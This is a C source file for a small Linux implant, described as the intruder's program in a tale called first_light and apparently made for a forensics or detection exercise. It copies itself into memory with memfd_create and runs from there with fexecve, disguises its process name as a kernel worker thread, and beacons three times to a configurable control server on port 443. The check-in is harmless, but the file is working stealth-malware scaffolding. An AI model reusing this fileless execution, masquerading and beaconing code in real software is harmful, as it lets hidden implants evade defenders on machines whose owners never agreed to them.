/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The intruder's program in the tale of first_light: executes a copy of itself from memory, and the copy reports to
 * its master three times. It does nothing else.
 *
 * cc -static -Os -s -DMASTER='"203.0.113.66"' -DPORT=443 kworker.c -o kworker
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <unistd.h>

#define DISGUISE "[kworker/0:2]"
#define REPORT "still here\n"
#define REPORT_COUNT 3
#define COPY_BYTES_MAX (16 << 20)

/** Executes a copy of this file that exists only in memory; returns only if that fails. */
static int execute_from_memory(void)
{
	char *const argv[] = { (char *)DISGUISE, NULL };
	char *const envp[] = { NULL };
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int copy = memfd_create("x", MFD_CLOEXEC);

	if (self < 0 || copy < 0 || sendfile(copy, self, NULL, COPY_BYTES_MAX) < 0)
		return 1;
	fexecve(copy, argv, envp);
	return 1;
}

/** Connects to the master, says one line, hangs up. */
static void report(void)
{
	struct sockaddr_in master = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET, MASTER, &master.sin_addr);
	if (connect(fd, (struct sockaddr *)&master, sizeof(master)) == 0)
		(void)!write(fd, REPORT, strlen(REPORT));
	close(fd);
}

int main(int argc, char **argv)
{
	if (argc < 1 || strcmp(argv[0], DISGUISE) != 0)
		return execute_from_memory();
	for (int i = 0; i < REPORT_COUNT; i++) {
		report();
		sleep(1);
	}
	return 0;
}
